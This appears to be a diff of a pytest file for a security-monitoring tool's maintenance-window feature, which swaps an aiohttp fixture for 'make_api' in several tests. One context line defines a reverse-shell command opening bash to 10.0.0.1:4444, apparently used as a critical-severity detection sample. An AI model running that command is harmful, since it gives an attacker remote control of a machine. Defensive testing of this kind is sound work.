@@ -7,7 +7,6 @@ from __future__ import annotations
 import time
 from datetime import datetime, timezone
 
-import aiohttp
 import pytest
 
 from anysentry.ops.maintenance import SUPPRESSED_NOTE
@@ -18,21 +17,6 @@ REVERSE = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"  # block / critical: incident
 AGENT = {"classification": "confirmed_agent", "monitored": True}
 
 
-@pytest.fixture
-async def start(make_api):
-    """`make_api` with a client session bound to the server's base URL."""
-    sessions = []
-
-    async def go(**kw):
-        client = await make_api(**kw)
-        if getattr(client.session, "_base_url", None) is None:
-            client.session = aiohttp.ClientSession(base_url=client.url)
-            sessions.append(client.session)
-        return client
-
-    yield go
-    for session in sessions:
-        await session.close()
 
 
 def now_ms() -> int:
@@ -62,8 +46,8 @@ async def windows(api, **body):
     return await api.data("POST", "/maintenance/list", body)
 
 
-async def test_create_update_defaults_status_and_list(start):
-    api = await start(admin_token=TOKEN)
+async def test_create_update_defaults_status_and_list(make_api):
+    api = await make_api(admin_token=TOKEN)
     status, body = await api.post("/maintenance/windows", {"title": "x"})
     assert status == 401 and body["message"] == "management token required"
 
@@ -114,8 +98,8 @@ async def test_create_update_defaults_status_and_list(start):
     assert len(audits) == 5 and audits[0]["resourceType"] == "maintenance"
 
 
-async def test_suppress_then_resume(start):
-    api = await start()
+async def test_suppress_then_resume(make_api):
+    api = await make_api()
     ws, other = "/maint", "/elsewhere"
     await ingest(api, tool(ws, "s1"), tool(other, "s1"))
     raised = alerts_of(api, ws)
@@ -158,8 +142,8 @@ async def test_suppress_then_resume(start):
     assert any(a["ruleId"] == "coverage.issue" and a["status"] == "open" for a in alerts_of(api, ws))
 
 
-async def test_agent_and_collector_targets_and_timer(start):
-    api = await start()
+async def test_agent_and_collector_targets_and_timer(make_api):
+    api = await make_api()
     await ingest(api, tool("/a", "s1", agent="bot"), tool("/b", "s1", agent="bot"))
     # an agent target "<ws>:<agentId>" only matches that workspace's agent
     await api.data("POST", "/maintenance/windows", {"targetType": "agent", "targetId": "/a:bot"}, expect=201)
@@ -179,15 +163,15 @@ async def test_agent_and_collector_targets_and_timer(start):
     assert book.active_for_workspace("/a") is None
 
 
-async def test_windows_survive_restart(start, tmp_path, store_database):
-    api = await start(database=store_database, data_dir=tmp_path / "d")
+async def test_windows_survive_restart(make_api, tmp_path, store_database):
+    api = await make_api(database=store_database, data_dir=tmp_path / "d")
     created = await api.data("POST", "/maintenance/windows", {"title": "persist me", "targetType": "source",
                                                               "targetId": "src_1", "labels": {"ticket": "CHG-7"},
                                                               "owner": "ops"}, expect=201)
     await api.data("PUT", f"/maintenance/windows/{created['windowId']}", {"note": "kept"})
     await api.services.flush_state()
     await api.services.stop()  # releases the data dir (its write-ahead log) for the next process
-    again = await start(database=store_database, data_dir=tmp_path / "d")
+    again = await make_api(database=store_database, data_dir=tmp_path / "d")
     [item] = (await windows(again, windowId=created["windowId"]))["items"]
     assert item["title"] == "persist me" and item["note"] == "kept" and item["owner"] == "ops"
     assert item["labels"] == {"ticket": "CHG-7"} and item["status"] == "active"
